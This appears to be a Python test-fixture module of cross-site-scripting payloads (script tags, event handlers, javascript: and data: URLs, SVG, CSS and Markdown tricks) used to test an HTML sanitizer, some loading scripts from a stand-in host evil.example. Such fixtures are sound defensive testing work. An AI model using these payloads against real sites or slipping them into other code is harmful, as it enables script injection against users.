"""Hostile inputs for the sanitizer: shared by the unit tests and the browser suite.

Each payload, if it ever executed, would set `window.__xss` or open a dialog.
"""

SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=# onclick=alert(1)>click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<p onclick=alert(1)>p</p>",
    "<x onpointerenter=alert(1)>x</x>",
    "<b onmouseover=alert(1)>bold</b>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
]

URL_SCHEMES = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "[a]: javascript:alert(1)\n\n[link][a]",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](\u2028javascript:alert(1))",
    "[click](javascript:123)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    "[x](javascript://%0aalert(1))",
    "[x](livescript:alert(1))",
    "[x](mocha:alert(1))",
]

SVG_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)>#x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onload to=alert(1)>",
]

CSS_TRICKS = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<span style=behavior:url(x.htc)>x</span>",
    '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
]

BROKEN_AND_NESTED = [
    '<img src="x" <script>alert(1)</script>',
    '<a href="x"><script>alert(1)</script></a>',
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    "<div/onclick=alert(1)>x</div>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "<p><b><i><u><script>alert(1)</script></u></i></b></p>",
]

MARKDOWN_TRICKS = [
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x"onerror="alert(1)](https://x)',
    '[x](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    "[x](<javascript:alert(1)>)",
    "[![img](https://evil.example/a.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    '[x](https://example.org/"onmouseover="alert(1))',
    '<https://example.org/"onmouseover="alert(1)>',
    'www.example.org/"><script>alert(1)</script>',
    '[x]: https://example.org "<script>alert(1)</script>"\n\n[x]',
    "**<script>alert(1)</script>**",
    "_<img src=x onerror=alert(1)>_",
    "~~<svg onload=alert(1)>~~",
]

HOSTILE_INPUTS = (
    SCRIPT_TAGS + EVENT_HANDLERS + URL_SCHEMES + SVG_MATHML + CSS_TRICKS + BROKEN_AND_NESTED + MARKDOWN_TRICKS
)
